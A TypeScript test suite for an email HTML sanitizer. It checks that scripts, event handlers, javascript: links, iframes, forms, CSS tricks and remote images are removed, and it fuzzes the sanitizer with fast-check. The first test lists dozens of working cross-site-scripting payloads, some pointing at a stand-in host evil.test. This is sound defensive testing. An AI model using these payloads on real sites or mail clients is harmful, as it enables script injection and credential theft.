import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { sanitizeMessageHtml } from './html-sanitizer.ts'

const inlineImageUrl = (contentId: string) => (contentId === 'logo@example.test' ? '/images/2' : undefined)
const sanitize = (html: string) => sanitizeMessageHtml(html, { inlineImageUrl })
const clean = (html: string) => sanitize(html).html

const link = (href: string) => `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow">x</a>`

/** Everything in the output is a tag of this very form or text without a bracket; whatever else would be a hole. */
const tag = /<\/?([a-z][a-z0-9]*)((?: [a-z-]+="[^"<>]*")*)(?: \/)?>/g
const forbiddenTags = new Set(
  `applet audio base body button embed form frame frameset head html iframe input link math meta noembed noframes
  noscript object option plaintext script select style svg template textarea title video xmp`.split(/\s+/),
)

function assertHarmless(html: string): void {
  assert(!html.replaceAll(tag, '').includes('<'), `not only plain tags and text: ${html}`)
  for (const [, name = '', attributes = ''] of html.matchAll(tag)) {
    assert(!forbiddenTags.has(name), `<${name}> in ${html}`)
    for (const [, attribute = '', value = ''] of attributes.matchAll(/ ([a-z-]+)="([^"]*)"/g)) {
      assert(!/^(on|formaction|action|srcset|srcdoc|id$|name$|class$|background$|poster|ping)/.test(attribute), html)
      if (attribute === 'href') assert.match(value, /^(https?:\/\/|mailto:|tel:)/i)
      if (attribute === 'src') assert.match(value, /^(\/images\/2$|data:image\/(png|jpe?g|gif|webp);base64,[\w+/=]*$)/i)
      if (attribute === 'data-remote-src') assert.match(value, /^https?:\/\//i)
      if (attribute === 'style')
        assert(!/url|expression|import|position|behavior|binding|\\|@|javascript|\/\*/i.test(value), value)
    }
  }
}

test('nothing that runs, loads, submits or navigates by itself comes through', () => {
  const vectors = [
    '<script>steal()</script>',
    '<scr<script>ipt>steal()</scr</script>ipt>',
    '<img src=x onerror=steal()>',
    '<img src="x"onerror="steal()">',
    '<img/src=x/onerror=steal()>',
    '<b/onmouseover\n=\n"steal()">x</b>',
    '<svg onload=steal()><a xlink:href="javascript:steal()"><text>x</text></a></svg>',
    '<svg><script>steal()</script></svg>',
    '<svg><animate xlink:href=#x attributeName=href values=javascript:steal() /></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=steal()&gt;">',
    '<iframe src="https://evil.test"></iframe>',
    '<iframe srcdoc="<script>steal()</script>"></iframe>',
    '<object data="javascript:steal()"></object><embed src="https://evil.test/x.swf">',
    '<form action="https://evil.test"><input name=password><button formaction=javascript:steal()>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test">',
    '<base href="https://evil.test/">',
    '<link rel=stylesheet href="https://evil.test/x.css">',
    '<style>@import "https://evil.test/x.css"; body{background:url(https://evil.test)}</style>',
    '<a href="javascript:steal()">x</a>',
    '<a href=" &#14;  javascript:steal()">x</a>',
    '<a href="java\nscript:steal()">x</a>',
    '<a href="jav&#x09;ascript:steal()">x</a>',
    '<a href="&#106;avascript&colon;steal()">x</a>',
    '<a href="data:text/html,<script>steal()</script>">x</a>',
    '<a href="vbscript:steal()">x</a><a href="blob:x">x</a><a href="//evil.test">x</a><a href="/admin">x</a>',
    '<img src="javascript:steal()"><img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html;base64,eA==">',
    '<img srcset="https://evil.test/1 1x"><picture><source srcset="https://evil.test/2"></picture>',
    '<video poster="https://evil.test/1" src="https://evil.test/2" autoplay></video><audio src=x onerror=steal()></audio>',
    '<table background="https://evil.test/x"><td background="javascript:steal()">x</td></table>',
    '<noscript><p title="</noscript><img src=x onerror=steal()>">',
    '<textarea><script>steal()</script></textarea><title><img src=x onerror=steal()></title>',
    '<xmp><img src=x onerror=steal()></xmp><plaintext><img src=x onerror=steal()>',
    '<template><script>steal()</script></template>',
    '<![CDATA[<script>steal()</script>]]><!--[if IE]><script>steal()</script><![endif]-->',
    '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">steal()</x:script>',
    '<p id=x name=y class=z contenteditable tabindex=1 autofocus onfocus=steal() ping=//evil.test>x</p>',
    '<details open ontoggle=steal()>x</details><marquee onstart=steal()>x</marquee>',
    '<div style="background:url(https://evil.test)">x</div>',
    '<img src="https://ok.test/x" data-remote-src="javascript:steal()">',
    '\u003cscript\u003esteal()\u003c/script\u003e\0<scr\0ipt>steal()</scr\0ipt>',
  ]
  for (const vector of vectors) assertHarmless(clean(vector))
})

test('styles pass as listed properties with harmless values only', () => {
  const cases: [style: string, kept: string][] = [
    ['color: red; FONT-SIZE:12px', 'color:red;font-size:12px'],
    ['margin:0 auto!important', 'margin:0 auto!important'],
    ['font:bold 14px/1.5 "Segoe UI", Arial, sans-serif', "font:bold 14px/1.5 'Segoe UI', Arial, sans-serif"],
    ['background:#FFF;width:calc(100% - 20px)', 'background:#FFF;width:calc(100% - 20px)'],
    [
      'color:rgba(0,0,0,.5);border:1px solid rgb(1 2 3 / 50%)',
      'color:rgba(0,0,0,.5);border:1px solid rgb(1 2 3 / 50%)',
    ],
    ['margin-left:-4px;line-height:1.5', 'margin-left:-4px;line-height:1.5'],
    ['position:fixed;top:0;z-index:9', ''],
    ['background:url(https://evil.test/x)', ''],
    ['background:u\\72l(https://evil.test/x)', ''],
    ['background-image:url(x);list-style:url(x);content:url(x);cursor:url(x)', ''],
    ['width:expression(steal())', ''],
    ['width:e/**/xpression(steal())', ''],
    ['color:var(--x);width:attr(x);background:image-set("x" 1x)', ''],
    ['behavior:url(x);-moz-binding:url(x)', ''],
    ['color:red}body{background:red', ''],
    ['font-family:"a\'b"', ''],
    [`color:${'a'.repeat(400)}`, ''],
    ['--x:url(y);@import "x"', ''],
  ]
  for (const [style, kept] of cases) {
    const expected = kept ? `<p style="${kept}">x</p>` : '<p>x</p>'
    assert.equal(clean(`<p style="${style.replaceAll('"', '&quot;')}">x</p>`), expected, style)
  }
})

test('links open elsewhere and say nothing of where they were', () => {
  assert.equal(
    clean('<a href="https://example.test/?a=1&b=2" target=_top rel=opener>x</a>'),
    link('https://example.test/?a=1&amp;b=2'),
  )
  assert.equal(clean('<a href="MAILTO:ann@example.test">x</a>'), link('MAILTO:ann@example.test'))
  assert.equal(clean('<a href=" https://example.test/a b ">x</a>'), link('https://example.test/a%20b'))
  assert.equal(clean('<a href="#top">x</a>'), '<a>x</a>')
})

test('remote images are kept from loading and counted; images of the message get our address', () => {
  const { html, blockedRemoteImages } = sanitize(
    '<img src="https://a.test/1.png" width=1><img src="//b.test/2.png"><img src="cid:logo%40example.test" alt="Logo">' +
      '<img src="cid:unknown"><img src="file:///etc/passwd"><img src="data:image/png;base64,iVBORw0=">',
  )
  assert.equal(
    html,
    '<img width="1" data-remote-src="https://a.test/1.png" /><img data-remote-src="https://b.test/2.png" />' +
      '<img alt="Logo" src="/images/2" /><img /><img /><img src="data:image/png;base64,iVBORw0=" />',
  )
  assert.equal(blockedRemoteImages, 2)
})

test('the looks of a newsletter stay: tables, colours, alignment, the page as a box', () => {
  const html =
    '<div bgcolor="#eeeeee" style="margin:0"><center><table width="600" cellpadding="0" cellspacing="0" border="0" align="center">' +
    '<tbody><tr><td colspan="2" valign="top" style="padding:10px 20px"><font color="#333333" face="Arial" size="2">Hi</font></td></tr>' +
    '</tbody></table></center></div>'
  const page = html.replace(
    '<div bgcolor="#eeeeee" style="margin:0">',
    '<html><head><title>N</title><style>p{}</style></head><body style="margin:0" bgcolor="#eeeeee">',
  )
  assert.equal(clean(page.replace(/<\/div>$/, '</body></html>')), html)
  assert.equal(clean('<head><title>x</title><p>The head never ended'), '<p>The head never ended</p>')
})

test('text that looks like markup stays text', () => {
  assert.equal(clean('1 &lt; 2 &amp;&amp; &lt;script&gt; &copy;'), '1 &lt; 2 &amp;&amp; &lt;script&gt; ©')
})

test('bombs are cut in time and say so', () => {
  const bombs = {
    deep: '<b>'.repeat(200_000),
    nested: '<table><tr><td>'.repeat(40_000),
    brackets: '<'.repeat(300_000),
    attributes: `<p ${'a=1 '.repeat(100_000)}>x`,
    style: `<p style="font-family:${'a '.repeat(100_000)}(">x`,
    noscript: '<noscript>'.repeat(60_000),
    comments: '<!--'.repeat(150_000),
  }
  for (const [name, bomb] of Object.entries(bombs)) {
    const startedAt = performance.now()
    assertHarmless(clean(bomb))
    assert(performance.now() - startedAt < 3000, `${name} took ${performance.now() - startedAt} ms`)
  }
  assert.deepEqual(sanitize(`${'<b>'.repeat(10_000)}a < b`), {
    html: `<pre>${' '.repeat(10_000)}a &lt; b</pre>`,
    blockedRemoteImages: 0,
    isTruncated: true,
  })
  assert.equal(sanitize('x'.repeat(2_000_001)).isTruncated, true)
})

test('whatever is put together from nasty pieces comes out harmless, and stays so when it is read again', () => {
  const names = [
    'a',
    'b',
    'p',
    'img',
    'script',
    'style',
    'svg',
    'math',
    'iframe',
    'noscript',
    'table',
    'td',
    'form',
    'textarea',
    'title',
    'xmp',
    'mglyph',
    'template',
    'body',
    'select',
    'option',
    'p/x',
    'a:b',
  ]
  const attributes = [
    'href',
    'src',
    'style',
    'onerror',
    'data-remote-src',
    'target',
    'background',
    'srcdoc',
    'xlink:href',
    'id',
    '"',
    '=',
  ]
  const values = [
    'javascript:x',
    'https://e.test/',
    '//e.test',
    'cid:logo@example.test',
    'data:image/png;base64,AA==',
    'data:text/html,x',
    'color:red;background:url(x)',
    'x"onload="y',
    "'",
    '&quot;>',
    '<b>',
    '\u0001javascript:x',
    '`',
  ]
  const piece = fc.oneof(
    fc.constantFrom(
      '<',
      '>',
      '"',
      "'",
      '<!--',
      '-->',
      '<![CDATA[',
      ']]>',
      '</',
      '/>',
      '&lt;',
      '&#60;',
      '\0',
      '<?',
      '<!doctype',
      ' text ',
    ),
    fc.constantFrom(...names).map((name) => `</${name}>`),
    fc
      .tuple(
        fc.constantFrom(...names),
        fc.array(fc.tuple(fc.constantFrom(...attributes), fc.constantFrom(...values)), { maxLength: 3 }),
        fc.constantFrom('"', "'", ''),
      )
      .map(
        ([name, pairs, quote]) =>
          `<${name}${pairs.map(([key, value]) => ` ${key}=${quote}${value}${quote}`).join('')}>`,
      ),
    fc.string({ unit: 'binary', maxLength: 10 }),
  )
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
      const html = clean(pieces.join(''))
      assertHarmless(html)
      assertHarmless(clean(html))
    }),
    { numRuns: 2000 },
  )
})
